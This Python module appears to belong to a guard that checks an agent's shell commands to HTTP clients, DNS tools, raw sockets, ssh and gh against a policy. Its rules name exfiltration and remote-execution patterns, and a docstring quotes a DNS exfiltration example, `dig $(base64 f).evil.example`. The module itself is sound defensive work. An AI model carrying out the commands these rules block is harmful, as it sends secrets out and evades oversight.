"""Network and hosted APIs: HTTP clients, raw sockets, ssh, gh, destructive cloud CLIs.

Every host reached is matched against the policy's high-consequence hosts (raw calls there are
denied: use `zen gate`); files sent or saved get the path rules.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from zen.guard.rules import cloud, env, pkg, secrets
from zen.guard.rules.methods import (
    HTTP_METHODS,
    HTTPIE,
    curl_method,
    forge_api,
    gh_kind,
    httpie_method,
    request_bodies,
    wget_method,
)
from zen.guard.scan.hosted import READ_METHODS, graphql_read, hosted_host, mutating_call, url_path
from zen.guard.shell.options import has, split_opts, val
from zen.guard.shell.words import UNK, Cmd, State, Word, lit

if TYPE_CHECKING:
    from zen.guard.analyse import Analyser


# options that take a value: (short letters, long names)
_CURL_OPTS = ("dHXoueAbcDEFKrTxYyzCmQwPtUhq", frozenset({
    "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "--json",
    "--header", "--request", "--output", "--user", "--referer", "--user-agent", "--cookie",
    "--cookie-jar", "--dump-header", "--form", "--form-string", "--config", "--range",
    "--upload-file", "--proxy", "--url", "--max-time", "--connect-timeout", "--retry",
    "--resolve", "--connect-to", "--cacert", "--cert", "--key", "--output-dir",
    "--write-out", "--unix-socket", "--proxy-user", "--oauth2-bearer", "--aws-sigv4",
    "--variable", "--expand-url", "--netrc-file", "--trace", "--trace-ascii", "--stderr",
    "--create-dirs", "--limit-rate", "--max-filesize", "--retry-delay", "--retry-max-time",
    "--interface", "--local-port", "--ciphers", "--tls-max", "--hostpubmd5", "--pubkey",
    "--socks5", "--socks5-hostname", "--preproxy", "--noproxy", "--doh-url", "--capath"}))
_WGET_OPTS = ("OoaPtTUeiBYwQlADRIX", frozenset({
    "--output-document", "--output-file", "--append-output", "--directory-prefix",
    "--tries", "--timeout", "--user-agent", "--header", "--post-data", "--post-file",
    "--body-data", "--body-file", "--method", "--user", "--password", "--http-user",
    "--http-password", "--input-file", "--load-cookies", "--save-cookies", "--execute",
    "--level", "--accept", "--reject", "--domains", "--base", "--ca-certificate",
    "--certificate", "--private-key", "--referer", "--wait", "--limit-rate", "--quota"}))
_HTTPIE_OPTS = ("oaAv", frozenset({
    "--output", "--auth", "--auth-type", "--session", "--session-read-only", "--verify", "--cert",
    "--cert-key", "--proxy", "--timeout", "--format-options", "--pretty", "--style", "--print",
    "--max-redirects", "--download"}))


def http(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
    an.ro(f"`{name}`")
    short, long = _CURL_OPTS if name == "curl" else _WGET_OPTS if name == "wget" else _HTTPIE_OPTS
    opts, pos = split_opts(args, short, long)
    urls = _http_options(an, name, opts, st)
    if (has(opts, "-n", "--netrc") and name == "curl") or has(opts, "--netrc-optional"):
        an.deny("creds.read", f"`{name} --netrc` sends stored credentials")
    method: str | None = None
    if name in HTTPIE:
        # httpie: [METHOD] URL [items...]; items like @file / field=@file read files
        posw = list(pos)
        if posw and posw[0].known and posw[0].text.upper() in HTTP_METHODS:
            method = posw[0].text.upper()
            posw = posw[1:]
        if posw:
            urls.append(posw[0])
            for item in posw[1:]:
                if "@" in item.text:
                    an.read_word(Word(item.text.split("@", 1)[1]), st)
            method = method or httpie_method(opts, posw[1:], cmd is not None and cmd.stdin in ("pipe", "heredoc", "herestring"))
    else:
        urls.extend(pos)
        method = curl_method(opts) if name in ("curl", "curlie") else wget_method(opts) if name == "wget" \
            else "GET"
    _sent_secrets(an, name, args, urls)
    if not urls and not pos:
        return
    bodies = request_bodies(opts)
    for o, v in opts:    # a Host header names the host an address is asked as
        if o in ("-H", "--header") and v is not None and v.text.lower().startswith("host:"):
            host = "https://" + v.text.split(":", 1)[1].strip()
            an.host_check(host)
            mutating_call(an, host, method, f"`{name}`", bodies)
    for u in urls:
        text = u.text
        if name in HTTPIE and text.startswith(":"):
            text = "http://localhost" + text
        elif "://" not in text:
            text = ("https://" if name == "https" else "http://") + text
        an.host_check(text)
        mutating_call(an, text, method, f"`{name}`", bodies)
    _saved_files(an, name, opts, urls, st)
    an.need("network_requests", "approval.network", f"`{name}` reaches the network")


def _saved_files(an: Analyser, name: str, opts: list[tuple[str, Word | None]], urls: list[Word], st: State) -> None:
    """The files a download saves under names of its own (wget, curl -O, aria2c): written with
    text the guardian cannot see, so running one later in the command is denied."""
    if name == "wget" and val(opts, "-O", "--output-document") is None:
        folder = val(opts, "-P", "--directory-prefix")
        base = folder.text.rstrip("/") + "/" if folder is not None else ""
        if has(opts, "-r", "--recursive", "-m", "--mirror") or (folder is not None and not folder.known):
            an.unknown_tree(folder or lit("."), st)
        for u in urls:
            an.write_word(lit(base + (_url_file(u.text) or "index.html")), st, "`wget` saves")
    elif name == "curl" and has(opts, "-O", "--remote-name", "--remote-name-all"):
        folder = val(opts, "--output-dir")
        base = folder.text.rstrip("/") + "/" if folder is not None else ""
        for u in urls:
            saved = _url_file(u.text)
            if saved:
                an.write_word(lit(base + saved), st, "`curl -O` saves")
    elif name in ("aria2c", "axel", "wget2"):
        an.unknown_tree(val(opts, "-d", "--dir") or lit("."), st)


def _url_file(url: str) -> str:
    """The file name a download takes from its URL (the last path segment)."""
    path = url.split("://", 1)[-1].split("?", 1)[0].split("#", 1)[0]
    return path.split("/", 1)[1].rsplit("/", 1)[-1] if "/" in path else ""


def _http_options(an: Analyser, name: str, opts: list[tuple[str, Word | None]], st: State) -> list[Word]:
    """Check what the options of an HTTP client write, send and reach; the --url values."""
    urls: list[Word] = []
    for o, v in opts:
        if v is None:
            continue
        if (o in ("-o", "--output", "-O", "--output-document", "-D", "--dump-header", "-c", "--cookie-jar",
                 "--trace", "--trace-ascii", "--stderr", "--output-file", "-a", "--append-output",
                 "--save-cookies", "--session") and name != "wget") or (
                name == "wget" and o in ("-O", "--output-document", "-o", "--output-file", "-a",
                                         "--append-output", "--save-cookies")):
            if v.text != "-":
                an.write_word(v, st, f"`{name} {o}` writes")
        elif o in ("-P", "--directory-prefix", "--output-dir") and (name == "wget" or o == "--output-dir"):
            an.write_word(Word(v.text.rstrip("/") + "/x", v.raw), st, f"`{name} {o}` writes into")
        elif o in ("-d", "--data", "--data-binary", "--data-urlencode", "--data-ascii", "--json",
                   "-F", "--form", "-T", "--upload-file", "--post-file", "--body-file", "-b", "--cookie",
                   "--data-raw", "--form-string") or (o == "-i" and name == "wget") or o == "--input-file":
            txt = v.text
            if o in ("-T", "--upload-file", "--post-file", "--body-file", "-i", "--input-file"):
                an.read_word(v, st)
                if name == "wget" and o in ("-i", "--input-file"):   # the URLs are in that file
                    an.deny("net.unresolved-host", f"`{name} {o}` takes its targets from elsewhere")
            elif o in ("-F", "--form") and "=<" in txt:     # name=<file: the file's text as the field
                ref = txt.split("=<", 1)[1].split(";", 1)[0]
                if ref and ref != "-":
                    an.read_word(Word(ref), st)
            elif "@" in txt and o not in ("--data-raw", "--form-string"):
                ref = txt.split("@", 1)[1].split(";", 1)[0]
                if ref and ref != "-":
                    an.read_word(Word(ref), st)
        elif o in ("-K", "--config", "-e", "--execute") and name in ("curl", "wget"):
            if (o in ("-e", "--execute") and name == "wget") or o in ("-K", "--config"):
                an.deny("net.unresolved-host", f"`{name} {o}` takes its targets from elsewhere")
        elif o in ("--url",):
            urls.append(v)
        elif o in ("-x", "--proxy", "--preproxy", "--socks5", "--socks5-hostname", "--connect-to",
                   "--resolve", "--doh-url", "--unix-socket"):
            if o in ("--connect-to", "--resolve"):
                parts = v.text.split(":")
                if len(parts) >= 3:
                    an.host_check("https://" + parts[-1 if o == "--resolve" else 2])
                    an.host_check("https://" + parts[0])
            else:
                an.host_check(v.text if "://" in v.text else "http://" + v.text)
        elif o in ("--netrc-file", "--cert", "--key", "--cacert", "--certificate", "--private-key",
                   "--load-cookies"):
            an.read_word(v, st)
    return urls


# options whose value authenticates a request (a header, user:password, a bearer token)
_AUTH_OPTS = frozenset({"-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "--http-user",
                        "--http-password", "--password", "--proxy-password", "-a", "--auth"})
_HTTPIE_HEADER = re.compile(r"^[\w-]+:(?!=)")


def _sent_secrets(an: Analyser, name: str, args: list[Word], urls: list[Word]) -> None:
    """A secret-looking variable in what an HTTP client sends. As a header or user:password to a
    hosted API (api.github.com, ...) it is the token's own use; in a body, a form, the URL, or to
    any other host (loopback too: a listener there can pass it on) it is sent out: denied."""
    shown: str | None = None
    auth_only = True
    for k, a in enumerate(args):
        if not (a.secret and not a.raw.lstrip("\"").startswith("${#")):
            continue
        shown = shown or a.raw
        if a.text.startswith("-"):
            opt = a.text.split("=", 1)[0] if a.text.startswith("--") else a.text[:2]
        else:
            opt = args[k - 1].text if k and args[k - 1].text.startswith("-") else ""
        if opt not in _AUTH_OPTS and not (not opt and name in HTTPIE and _HTTPIE_HEADER.match(a.text)):
            auth_only = False
    if shown is None:
        return
    if auth_only and urls and not any(u.secret for u in urls) and all(
            hosted_host(an, u.text if "://" in u.text else "https://" + u.text) for u in urls):
        return
    sends_secret(an, name, shown)


def sends_secret(an: Analyser, name: str, shown: str) -> None:
    an.deny("creds.exfil", f"`{name}` sends a secret-looking variable ({shown}) to a host that is not its "
            "service; credentials never pass through an agent (a gate holds them: zen gate)")


def dns(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
    """dig, host, nslookup, drill: the name asked for reaches the network (and whoever answers for
    its domain), so a name built at run time can carry data out (`dig $(base64 f).evil.example`)."""
    for k, a in enumerate(args):
        if a.secret:
            sends_secret(an, name, a.raw)
        if not a.known:
            an.deny("creds.exfil", f"`{name}` looks up a name only known at run time ({a.raw}): a DNS query "
                    "can carry data to whoever answers for the domain")
        if a.text in ("-f",) and k + 1 < len(args):
            an.read_word(args[k + 1], st)


def socket(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
    if name == "openssl":
        sub = args[0].text if args else ""
        if sub in ("s_client",):
            for k, a in enumerate(args):
                if a.text == "-connect" and k + 1 < len(args):
                    an.host_check("https://" + args[k + 1].text)
            an.ro("`openssl s_client`")
            return
        _opts, _pos = split_opts(args[1:], "", frozenset())
        for k, a in enumerate(args):
            if a.text in ("-out",) and k + 1 < len(args):
                an.ro("`openssl -out`")
                an.write_word(args[k + 1], st, "`openssl -out` writes")
            if a.text in ("-in", "-inkey", "-key") and k + 1 < len(args):
                an.read_word(args[k + 1], st)
        return
    an.ro(f"`{name}`")
    if name == "socat":
        for a in args:
            if re.match(r"(?i)^(exec|system):", a.text):
                an.deny("opaque.exec", "`socat EXEC:` runs a program")
    texts = [a for a in args if not a.text.startswith("-")]
    if any(a.text in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") for a in args):
        an.deny("opaque.exec", f"`{name} -e` runs a program")
    for a in texts[:1]:
        h = a.text
        if re.match(r"(?i)^(tcp|udp|ssl|openssl)[46]?:", h):
            h = h.split(":", 1)[1]
        if not a.known:
            an.deny("net.unresolved-host", f"`{name}` reaches a host only known at run time")
        an.host_check("tcp://" + h.split(":")[0])
    an.need("network_requests", "approval.network", f"`{name}` opens a connection")


def ssh(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
    an.ro("`ssh`")
    opts, pos = split_opts(args, "BbcDEeFIiJLlmOoPpQRSWw", frozenset(), stop_first=True)
    for o, v in opts:
        if o == "-o" and v is not None and re.match(r"(?i)(ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand)\b", v.text):
            an.deny("opaque.exec", f"`ssh -o {v.text.split('=')[0]}` runs a local command")
    if has(opts, "-F"):
        pass
    an.need("network_requests", "approval.network", "`ssh` reaches another host")
    if len(pos) < 2:
        if cmd is not None and cmd.stdin in ("heredoc", "herestring"):
            text = cmd.stdin_text or ""
            if UNK in text:
                an.deny("opaque.exec", "ssh runs a remote script only known at run time")
            an.walk(text, State((None,)), depth + 1)
        elif cmd is not None and cmd.stdin == "pipe" and len(pos) == 1:
            an.deny("opaque.pipe", "output piped into a remote shell runs as code the guardian cannot see")
        return
    remote = " ".join(p.text for p in pos[1:])
    if any(not p.known for p in pos[1:]):
        an.deny("opaque.exec", "ssh runs a remote command only known at run time")
    an.walk(remote, State((None,)), depth + 1)


def gh(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
    env.cred_command(an, name, args)
    secrets.check(an, name, args)
    remote_destructive(an, name, args)
    texts = [a.text for a in args]
    read_only = texts[:1] in (["status"],) or texts[:2] in (
        ["pr", "view"], ["pr", "list"], ["pr", "diff"], ["pr", "checks"], ["pr", "status"],
        ["issue", "view"], ["issue", "list"], ["repo", "view"], ["run", "list"], ["run", "view"],
        ["auth", "status"], ["release", "list"], ["release", "view"], ["search", "issues"],
        ["search", "prs"], ["search", "code"], ["search", "repos"])
    kind = gh_kind(texts)
    if texts[:1] == ["api"]:
        read_only = forge_call(an, name, args[1:])
    elif kind == "human-only" and an.ctx.agent:
        an.deny("remote.human-only", f"`gh {' '.join(texts[:2])}` merges or approves a pull request, and an "
                "agent is never a human: zen harvests the work for a person to review")
    elif kind == "install":
        an.deny("pkg.unknown-index", "`gh extension install` installs code from a repository, not a package "
                "registry the policy knows: a human installs gh extensions")
    elif kind in ("change", "human-only"):
        an.beyond("report.hosted-api", f"`gh {' '.join(t for t in texts[:2] if not t.startswith('-'))}` "
                  "changes something on GitHub, outside the worktree")
    if not read_only:
        an.ro("`gh`")
    _gh_files(an, args, st)
    pkg.publish_check(an, name, args)       # gh release create / upload / edit
    an.need("network_requests", "approval.network", "`gh` reaches GitHub")


def forge_call(an: Analyser, name: str, args: list[Word]) -> bool:
    """`gh api` / `glab api` / `hub api`: reading is fine, a change needs the job's level (True: it
    only reads)."""
    url, method, bodies = forge_api(name, args)
    mutating_call(an, url, method, f"`{name} api`", bodies, forge=True)
    return (method or "") in READ_METHODS or (method == "POST" and graphql_read(url_path(url), bodies))


def _gh_files(an: Analyser, args: list[Word], st: State) -> None:
    """What gh uploads: files named on its command line (gist create, release upload, issue
    create -F), @file fields and --input of gh api."""
    texts = [a.text for a in args]
    uploads = texts[:2] in (["gist", "create"], ["gist", "edit"], ["release", "upload"], ["release", "create"])
    for k, a in enumerate(args):
        t = a.text
        prev = texts[k - 1] if k else ""
        if "=@" in t or (t.startswith("@") and len(t) > 1):
            an.read_word(Word(t.split("@", 1)[1], a.raw), st)
        elif (prev in ("--input", "-F", "--body-file", "--notes-file") and not t.startswith("-")) or (uploads and k >= 2 and not t.startswith("-") and prev not in ("-d", "--desc", "-t", "--title",
                                                                            "-n", "--notes", "--repo", "-R")):
            an.read_word(a, st, recursive=True)


def serve(an: Analyser, name: str, args: list[Word], st: State, cmd: Cmd | None, depth: int) -> None:
    """A static web server (http-server, serve, live-server, ...) hands out every file below the
    folder it serves (the cwd when none is named): a credential store there is read."""
    an.ro(f"`{name}`")
    folders = [a for a in args if not a.text.startswith("-") and not a.text.isdigit()]
    for f in folders or [lit(".")]:
        an.read_word(f, st, recursive=True)
    an.need("network_requests", "approval.network", f"`{name}` serves files over the network")


def remote_destructive(an: Analyser, name: str, args: list[Word]) -> None:
    """Destroying cloud, cluster or hosted resources is beyond any worktree: denied (rules/cloud.py)."""
    cloud.destructive(an, name, args)
